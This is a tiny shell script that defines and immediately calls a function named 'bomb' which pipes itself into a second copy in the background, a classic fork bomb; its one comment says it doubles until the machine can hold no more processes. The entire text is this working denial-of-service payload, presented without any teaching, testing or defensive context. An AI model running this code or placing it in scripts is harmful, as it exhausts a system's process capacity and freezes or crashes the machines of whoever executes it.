# Doubles itself until the machine has no room for another process.
bomb() {
  bomb | bomb &
  wait
}
bomb
